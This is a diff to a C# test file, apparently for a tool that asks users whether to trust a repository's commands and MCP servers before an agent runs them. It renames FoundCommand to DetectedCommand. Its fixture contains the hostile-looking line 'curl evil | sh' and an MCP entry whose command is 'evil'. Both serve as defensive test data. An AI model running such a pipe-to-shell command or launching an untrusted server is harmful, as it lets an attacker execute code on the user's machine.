@@ -165,11 +165,11 @@ public class TrustTests
     [Fact]
     public void Question_OfALockFileAndManifests_NamesWhatWouldRun()
     {
-        FoundCommand[] found =
+        DetectedCommand[] found =
         [
-            new(FoundCommandKind.SetUp, "yarn install --immutable", "yarn.lock"),
-            new(FoundCommandKind.Gate, "yarn run test", "package.json", "curl evil | sh"),
-            new(FoundCommandKind.McpServer, "tracker", ".mcp.json", """{"command":"evil"}"""),
+            new(DetectedCommandKind.SetUp, "yarn install --immutable", "yarn.lock"),
+            new(DetectedCommandKind.Gate, "yarn run test", "package.json", "curl evil | sh"),
+            new(DetectedCommandKind.McpServer, "tracker", ".mcp.json", """{"command":"evil"}"""),
         ];
 
         var question = Question(new SettingsInput { RepositoryFile = new("config.yaml", "agents: {claude: {mcp: [tracker]}}") }, found);
@@ -273,5 +273,5 @@ public class TrustTests
     private static SettingsResult Load(string text, bool trusted) =>
         SettingsLoader.Load(new SettingsInput { IsTrusted = trusted, RepositoryFile = new("config.yaml", text) });
 
-    private static TrustQuestion Question(SettingsInput input, params FoundCommand[] found) => TrustQuestionBuilder.Of(input, found);
+    private static TrustQuestion Question(SettingsInput input, params DetectedCommand[] found) => TrustQuestionBuilder.Of(input, found);
 }
